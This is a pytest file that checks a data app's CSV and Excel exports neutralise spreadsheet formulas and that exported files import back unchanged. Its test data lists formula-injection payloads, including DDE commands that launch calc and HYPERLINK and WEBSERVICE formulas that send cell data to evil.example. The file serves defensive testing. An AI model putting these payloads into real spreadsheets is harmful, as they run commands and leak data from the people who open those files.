"""What people take home runs nothing in a spreadsheet, and comes back as it was."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from starlette.testclient import TestClient

from tests.kit import rows_of
from tests.security.region import NOTE, SHEET, hidden
from zhongshu.app.cli import main
from zhongshu.core.spreadsheet_text import runs
from zhongshu.packs.hub import Hub

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "＠SUM(A1)",
    " =1+1",
    "\u3000=1+1",
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "a\n=1+1",
    "-5",
    "+3.5",
    "'plain'",
    "台州",
)


@pytest.fixture
def rows(hub: Hub) -> list[tuple[object, ...]]:
    """The notes, once these have come in, as an Excel file, which brings them as they are."""
    path = hub.intake.scratch.parent.parent / "formulas.xlsx"
    write_sheet(path)
    hub.load(NOTE, path, source=None, who="test")
    return rows_of(hub, NOTE)


def write_sheet(path: Path) -> None:
    book = Workbook()
    page = book.worksheets[0]
    page.append(["id", "body", "amount"])
    for number, text in enumerate(FORMULAS):
        page.append([f"f{number:02}", "", str(-1 - number)])
        cell = page.cell(number + 2, 2)
        cell.value, cell.data_type = text, "s"
    book.save(path)


def test_the_rows_came_in_as_they_are(rows: list[tuple[object, ...]]) -> None:
    assert {row[1] for row in rows} >= set(FORMULAS)


def test_no_cell_of_a_csv_file_runs_and_numbers_stay_numbers(
    client: TestClient, rows: list[tuple[object, ...]]
) -> None:
    text = client.get(f"/data/{NOTE}/download.csv").content.decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text, newline="")))
    assert len(cells) == len(rows) + 1
    assert not any(runs(cell) for row in cells for cell in row)
    assert {row[2] for row in cells[1:]} >= {"-1.0", "-5.0"}
    assert "'-5" not in text


def test_no_cell_of_an_excel_file_is_a_formula(client: TestClient, rows: list[tuple[object, ...]]) -> None:
    content = client.get(f"/data/{NOTE}/download.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        assert not any(b"<f>" in packed.read(name) or b"<f " in packed.read(name) for name in packed.namelist())
    cells = list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(min_row=2))
    assert {row[1].data_type for row in cells} == {"s"}
    assert all(bool(row[1].quotePrefix) == runs(str(row[1].value)) for row in cells)
    assert {row[2].value for row in cells} >= {-1, -5}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_was_downloaded_comes_back_unchanged(
    client: TestClient, hub: Hub, rows: list[tuple[object, ...]], kind: str, tmp_path: Path
) -> None:
    path = tmp_path / f"back.{kind}"
    path.write_bytes(client.get(f"/data/{NOTE}/download.{kind}").content)
    loaded = hub.load(NOTE, path, source=None, who="test")
    assert (loaded.counts.unchanged, loaded.counts.input) == (len(rows), len(rows))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_was_exported_comes_back_unchanged(
    home: Path, hub: Hub, rows: list[tuple[object, ...]], kind: str, tmp_path: Path
) -> None:
    path = tmp_path / f"out.{kind}"
    assert main(["export", NOTE, "-o", str(path), "--home", str(home)]) == 0
    if kind == "csv":
        with path.open(encoding="utf-8", newline="") as file:
            assert not any(runs(cell) for row in csv.reader(file) for cell in row)
    assert hub.load(NOTE, path, source=None, who="test").counts.unchanged == len(rows)


def test_a_reason_that_is_a_formula_stays_text_in_the_template(client: TestClient) -> None:
    fields = hidden(client.get(SHEET).text)
    client.post(SHEET, data={**fields, "act": "save", "who": "=1+1", "cell.output": "=1+1"})
    book = load_workbook(io.BytesIO(client.get(f"{SHEET}/template.xlsx").content))
    kinds = {cell.data_type for page in book for row in page.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds
